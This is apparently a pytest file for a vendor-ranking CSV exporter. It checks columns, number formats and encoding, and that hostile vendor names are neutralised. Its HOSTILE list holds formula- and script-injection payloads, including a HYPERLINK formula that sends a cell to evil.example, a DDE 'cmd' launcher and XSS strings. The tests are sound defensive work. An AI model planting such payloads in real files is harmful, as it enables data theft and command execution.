"""The ranking as CSV: its columns, its numbers, and what hostile text comes to."""

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import given

from shortlist.catalog import Catalog
from shortlist.decision import Decision, pairs, preset, query, read
from shortlist.files.csv import header, ranking_csv
from shortlist.ranking.answer import answer
from shortlist.text.spreadsheet import neutral, original
from tests.support.builders import Row, catalog, changed, rating, tables
from tests.support.strategies import Case, cases, many

CATALOG = catalog().signed("0123abc")
FIXED = [
    "rank",
    "vendor_id",
    "vendor",
    "status",
    "score",
    "score_low",
    "score_high",
    "rank_best",
    "rank_worst",
    "known",
]


def written(sound: Catalog = CATALOG, decision: Decision | None = None) -> bytes:
    decision = decision or preset(sound)
    found = answer(decision, sound)
    assert found is not None
    return ranking_csv(found, decision, sound)


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def test_the_columns_are_those_that_were_promised() -> None:
    points = ["points_price", "points_repair", "points_screen"]
    assert header(CATALOG) == [*FIXED, *points, "decision", "catalog_sha256"]
    assert list(rows(written())[0]) == header(CATALOG)


def test_the_file_is_this() -> None:
    """By hand, as for the ranking: Acme 50 … 90, Brio 10 … 90, at half of what is unknown 70 and 50."""
    link = query(preset(CATALOG), CATALOG)
    assert written().decode() == (
        "\ufeff" + ",".join(header(CATALOG)) + "\r\n"
        f"1,acme,Acme,ranked,70.0000,50.0000,90.0000,1,2,0.6000,25.0000,30.0000,15.0000,{link},0123abc\r\n"
        f"2,brio,Brio,ranked,50.0000,10.0000,90.0000,1,2,0.2000,20.0000,15.0000,15.0000,{link},0123abc\r\n"
    )


def test_the_decision_in_the_file_reproduces_it() -> None:
    decision, _ = read([("profile", "school"), ("unknown", "30"), ("must_repair", "1")], CATALOG)
    content = written(decision=decision)
    for row in rows(content):
        assert read(pairs(row["decision"]), CATALOG) == (decision, ())


def test_a_byte_order_mark_and_crlf_are_written() -> None:
    content = written()
    assert content.startswith(b"\xef\xbb\xbfrank,")
    assert content.endswith(b"\r\n")
    assert content.count(b"\n") == content.count(b"\r\n") == 3


def three() -> Catalog:
    """Cora fails to be mended by anybody, Acme does not, and of Brio nobody knows."""
    cora = {
        "id": "cora",
        "name": "Cora",
        "summary": "S",
        "ratings": [rating("repair", 0, 0), rating("price", 400, 400)],
    }
    return catalog(tables(vendors=[cora, *tables()["vendors"]]))


def test_vendors_that_fail_stand_last_without_a_rank() -> None:
    decision, _ = read([("must_repair", "1"), ("g_cost", "100")], three())
    assert [
        [row[key] for key in ("rank", "vendor_id", "status", "rank_best", "rank_worst")]
        for row in rows(written(three(), decision))
    ] == [
        ["1", "acme", "ranked", "1", "2"],
        ["2", "brio", "open: repair", "1", "2"],
        ["", "cora", "failed: repair", "", ""],
    ]


def test_an_open_must_have_can_take_the_rank_too_and_a_failed_one_is_named_first() -> None:
    decision, _ = read([("must_repair", "1"), ("must_screen", "3"), ("open", "drop")], three())
    found = rows(written(three(), decision))
    assert {row["vendor_id"]: (row["rank"], row["status"]) for row in found} == {
        "acme": ("", "open: screen"),
        "brio": ("", "failed: screen"),
        "cora": ("", "failed: repair"),
    }


@many
@given(cases())
def test_every_number_is_printed_in_full_and_points_add_up(case: Case) -> None:
    content = written(case.catalog, case.decision)
    found = rows(content)
    decimals = [
        "score",
        "score_low",
        "score_high",
        "known",
        *(f"points_{c.id}" for c in case.catalog.criteria),
    ]
    for row in found:
        assert all(re.fullmatch(r"[0-9]{1,3}\.[0-9]{4}", row[key]) for key in decimals)
        ranks = [row[key] for key in ("rank", "rank_best", "rank_worst")]
        can, is_in = not row["status"].startswith("failed"), row["rank"] != ""
        assert [bool(re.fullmatch("[1-9]", place)) for place in ranks] == [is_in, can, can]
        points = sum(int(row[f"points_{c.id}"].replace(".", "")) for c in case.catalog.criteria)
        assert points == int(row["score"].replace(".", ""))
    ranked = [int(row["rank"]) for row in found if row["rank"]]
    assert ranked == sorted(ranked)
    assert not any(row["rank"] for row in found[len(ranked) :])
    assert {row["vendor_id"] for row in found} == {vendor.id for vendor in case.catalog.vendors}


HOSTILE = [
    "**bold** [link](http://evil.example) `code`",
    "![](http://evil.example/pixel.png)",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "$\\frac{1}{2}$ :material/home: :red[x]",
    '=HYPERLINK("http://evil.example?"&A1,"Acme")',
    "+1-2",
    "@SUM(1)",
    "-2+cmd|' /C calc'!A0",
    "Acme;=1+1;\n=2",
    'He said "no", twice',
    "a,b\nc",
    "＝1",
    "Сферум — 日本",
]


def named(name: str) -> Row:
    return changed("vendors", 0, name=name)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_is_inert_and_comes_back(name: str) -> None:
    content = written(catalog(named(name)))
    cell = rows(content)[0]["vendor"]
    assert cell == neutral(name)
    assert original(cell) == name
    assert not re.search(r"(^|[,;|\n])[\"\s]*[=+\-@＝＋－＠]", cell)
    assert len(rows(content)) == 2


@pytest.mark.parametrize("name", HOSTILE)
def test_pandas_reads_what_we_wrote(name: str) -> None:
    sound = catalog(named(name))
    frame = pd.read_csv(io.BytesIO(written(sound)), encoding="utf-8-sig", keep_default_na=False)
    assert list(frame.columns) == header(sound)
    assert frame["vendor"].map(original).tolist() == [name, "Brio"]
    assert frame["score"].tolist() == [70.0, 50.0]
    assert frame["rank"].tolist() == [1, 2]


def test_numbers_are_never_quoted_or_marked() -> None:
    assert b"'" not in written()
    assert b'"' not in written()
